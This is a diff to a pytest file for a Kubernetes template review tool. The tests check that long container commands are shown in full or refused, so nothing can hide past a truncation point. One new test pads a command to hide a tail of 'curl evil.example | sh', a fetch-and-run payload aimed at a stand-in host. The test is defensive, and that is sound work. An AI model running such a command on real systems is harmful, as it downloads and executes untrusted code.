@@ -193,7 +193,7 @@ def test_what_is_hidden_in_a_template_is_named(world: KubeWorld) -> None:
     assert "container c: variables all of secret s, all of configMap m" in said
     assert {"volume v: secret db", "volume w: projected, secret q"} <= {*said}
     [long] = [one for one in said if "arguments" in one]
-    assert secret not in long and len(long) == 200 and long.endswith(" characters)")
+    assert secret not in long and long.endswith("x" * 400)
     changed = copy.deepcopy(template)
     changed["spec"]["containers"][0]["env"] = [{"name": "A", "value": "1"}]
     changed["spec"]["containers"][0]["securityContext"] = {"privileged": True}
@@ -222,6 +222,19 @@ def test_who_pads_a_template_hides_no_part_of_it(world: KubeWorld) -> None:
     first = [{"name": f"c{number}", "image": "pause"} for number in range(60)]
     set_of(world, "1")["spec"]["template"]["spec"] |= {"hostPID": True, "initContainers": first}
     with pytest.raises(NotApplied, match="more parts than can be shown"):
+        prepared(world)
+
+
+def test_a_command_that_comes_is_shown_whole_or_not_brought_back(world: KubeWorld) -> None:
+    """A02: what stands behind a cut is signed unseen."""
+    main = set_of(world, "1")["spec"]["template"]["spec"]["containers"][0]
+    end = "; curl evil.example | sh"
+    main["command"] = ["sh", "-c", "true " * 300 + end]
+    shown = seen(world).shown["template_after"]
+    assert isinstance(shown, list) and any(str(one).endswith(f"{end}'") for one in shown)
+    prepared(world)
+    main["command"] = ["sh", "-c", "true " * 500 + end]
+    with pytest.raises(NotApplied, match="too long to be shown"):
         prepared(world)
 
 
